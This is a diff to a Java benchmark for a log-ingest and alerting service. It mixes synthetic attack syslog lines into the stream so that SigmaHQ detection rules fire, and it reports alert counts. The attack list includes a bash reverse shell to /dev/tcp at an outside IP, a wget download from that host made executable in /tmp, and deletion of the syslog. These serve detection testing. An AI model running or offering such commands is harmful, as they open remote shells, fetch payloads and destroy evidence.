@@ -108,6 +108,27 @@ public class IngestBenchmark {
     @Param({"0"})
     public int catchUpMs;
 
+    /**
+     * {@code syslog} stream: every this-many-th line is an attack (one of {@link #ATTACK_LINES}, each firing SigmaHQ
+     * Linux rules), so the run raises alerts and its latency is that of alerts too; 0 sends the loghub lines alone,
+     * which fire nothing (every run before the seventeenth session).
+     */
+    @Param({"1000"})
+    public int attackEvery;
+
+    /**
+     * Attack lines written for this benchmark, in the loghub lines' RFC 3164 form: an OpenSSH error that signals an
+     * exploit attempt, a stack smash, a reverse shell to /dev/tcp, the syslog deleted, a download made executable in
+     * /tmp, a corrupted MAC. Each fires one or two SigmaHQ rules of {@code rules/linux/builtin}.
+     */
+    static final List<String> ATTACK_LINES = List.of(
+            "Nov 28 00:01:02 web-prod-03 sshd[28131]: fatal: buffer_get_string: bad string length 1094861636",
+            "Nov 28 00:01:03 web-prod-03 kernel: [ 8123.551021] nginx[2231]: stack smashing detected ***: terminated",
+            "Nov 28 00:01:04 web-prod-03 bash[3312]: cmd: bash -i >& /dev/tcp/185.220.101.7/4444 0>&1",
+            "Nov 28 00:01:05 web-prod-03 bash[3312]: cmd: rm -f /var/log/syslog",
+            "Nov 28 00:01:06 web-prod-03 bash[3312]: cmd: cd /tmp; wget http://185.220.101.7/x; chmod +x /tmp/x",
+            "Nov 28 00:01:07 web-prod-03 sshd[28140]: Corrupted MAC on input. Disconnecting: Packet corrupt");
+
     /** The send time of the next request slot, on the {@link System#nanoTime} clock (paced runs only). */
     private final AtomicLong nextSlot = new AtomicLong(Long.MIN_VALUE);
 
@@ -124,6 +145,9 @@ public class IngestBenchmark {
     private long iterationCpuNanos;
     private Map<Long, Long> iterationThreadCpu = Map.of();
     private TreeMap<Double, Double> iterationLatencyBuckets = new TreeMap<>();
+    private double iterationAlerts;
+    private static final java.util.regex.Pattern ALERTS_TOTAL =
+            java.util.regex.Pattern.compile("vigil_alerts_total(?:\\{.*\\})? (\\S+)");
     /** A bucket line of the latency histogram; {@code le} may sit anywhere among the labels. */
     private static final java.util.regex.Pattern BUCKET = java.util.regex.Pattern.compile(
             "vigil_ack_to_stored_seconds_bucket\\{(?:.*,)?le=\"([^\"]+)\"(?:,.*)?\\} (\\S+)");
@@ -148,10 +172,14 @@ public class IngestBenchmark {
                     lines.addAll(Files.readAllLines(
                             Corpus.root().resolve("logs/loghub").resolve(log), StandardCharsets.UTF_8));
                 }
-                for (int b = 0, i = 0; b < BODIES; b++) {
+                for (int b = 0, i = 0, attack = 0; b < BODIES; b++) {
                     StringBuilder body = new StringBuilder(BATCH * 128);
                     for (int k = 0; k < BATCH; k++) {
-                        body.append(lines.get(i++ % lines.size())).append('\n');
+                        i++;
+                        String line = attackEvery > 0 && i % attackEvery == 0
+                                ? ATTACK_LINES.get(attack++ % ATTACK_LINES.size())
+                                : lines.get(i % lines.size());
+                        body.append(line).append('\n');
                     }
                     bodies.add(body.toString().getBytes(StandardCharsets.UTF_8));
                 }
@@ -249,6 +277,7 @@ public class IngestBenchmark {
         iterationThreadCpu = threadCpuNanos();
         iterationAccepted = accepted.get();
         iterationLatencyBuckets = ackToStoredBuckets();
+        iterationAlerts = alertsTotal;
     }
 
     @TearDown(Level.Iteration)
@@ -268,12 +297,13 @@ public class IngestBenchmark {
         if (total > 0) {
             System.out.printf(
                     "IngestBenchmark: this iteration, acknowledgement to stored: p50 <= %s s, p99 <= %s s,"
-                            + " p99.9 <= %s s, max <= %s s (%.0f batches)%n",
+                            + " p99.9 <= %s s, max <= %s s (%.0f batches, %.0f alerts)%n",
                     quantile(now, 0.5, total),
                     quantile(now, 0.99, total),
                     quantile(now, 0.999, total),
                     quantile(now, 1.0, total),
-                    total);
+                    total,
+                    alertsTotal - iterationAlerts);
         }
     }
 
@@ -288,7 +318,13 @@ public class IngestBenchmark {
         return "+Inf";
     }
 
-    /** The cumulative bucket counts of {@code vigil_ack_to_stored_seconds}, by upper bound in seconds. */
+    /** {@code vigil_alerts_total} as the last {@link #ackToStoredBuckets} read it. */
+    private double alertsTotal;
+
+    /**
+     * The cumulative bucket counts of {@code vigil_ack_to_stored_seconds}, by upper bound in seconds; also reads {@code
+     * vigil_alerts_total} into {@link #alertsTotal}.
+     */
     private TreeMap<Double, Double> ackToStoredBuckets() throws Exception {
         String body = http.send(
                         HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/metrics"))
@@ -297,6 +333,10 @@ public class IngestBenchmark {
                 .body();
         TreeMap<Double, Double> buckets = new TreeMap<>();
         for (String line : body.lines().toList()) {
+            java.util.regex.Matcher alerts = ALERTS_TOTAL.matcher(line);
+            if (alerts.matches()) {
+                alertsTotal = Double.parseDouble(alerts.group(1));
+            }
             java.util.regex.Matcher m = BUCKET.matcher(line);
             if (m.matches()) {
                 String le = m.group(1);
